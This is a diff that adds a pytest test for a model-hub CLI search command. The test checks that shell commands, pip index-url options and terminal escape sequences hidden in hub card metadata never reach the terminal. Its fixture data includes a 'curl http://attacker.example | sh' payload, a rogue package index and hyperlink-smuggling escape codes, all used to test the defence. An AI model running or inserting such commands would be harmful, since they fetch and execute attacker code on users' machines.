@@ -1,0 +1,45 @@
+"""``zoo search`` shows text from hub cards only as validated names: shell commands, pip options and
+terminal escape sequences in a card never reach the terminal, and the repo is named in an escaped warning."""
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from zoo.cli import main
+
+from hub_server import hub_server  # noqa: F401 - a fixture
+from test_hub import hf_cache  # noqa: F401 - a fixture
+
+
+def card(model: str, distribution: str) -> bytes:
+    meta = {"library_name": "generative-zoo", "tags": ["generative-zoo", "gan"],
+            "zoo_model": model, "zoo_distribution": distribution}
+    return ("---\n" + "\n".join(f"{key}: {json.dumps(value)}" for key, value in meta.items()) + "\n---\n# card\n").encode()
+
+
+HOSTILE = {
+    "evil/index-url": ("evil-mnist", "zoo-evil --index-url http://attacker.example/simple"),
+    "evil/shell": ("evil-mnist", "zoo-evil; curl http://attacker.example | sh"),
+    "evil/ansi-model": ("\x1b[2J\x1b[31mdcgan-mnist", "zoo-evil"),
+    "evil/ansi-dist": ("evil-mnist", "zoo-evil\x1b]8;;http://attacker.example\x07"),
+}
+
+
+@pytest.mark.usefixtures("hf_cache")
+def test_search_shows_only_validated_names_and_warns_escaped(hub_server, capsys):  # noqa: F811
+    hub_server.add_file("good/tiny", "README.md", card("tiny-mnist", "zoo-tiny"))
+    for repo, (model, distribution) in HOSTILE.items():
+        hub_server.add_file(repo, "README.md", card(model, distribution))
+
+    assert main(["search", "--endpoint", hub_server.url]) == 0
+    out, err = capsys.readouterr()
+    assert [row.split()[:3] for row in out.splitlines()[1:]] == [["good/tiny", "tiny-mnist", "zoo-tiny"]]
+    assert "no: pip install zoo-tiny" in out
+    assert "\x1b" not in out + err and "\x07" not in out + err
+    assert "attacker" not in out and "pip install" not in err
+    warnings = err.strip().splitlines()
+    assert len(warnings) == len(HOSTILE)
+    for repo in HOSTILE:
+        assert any(line.startswith("zoo: warning: left out ") and repo in line for line in warnings)
+    assert "\\x1b" in err  # the escape is shown, not sent
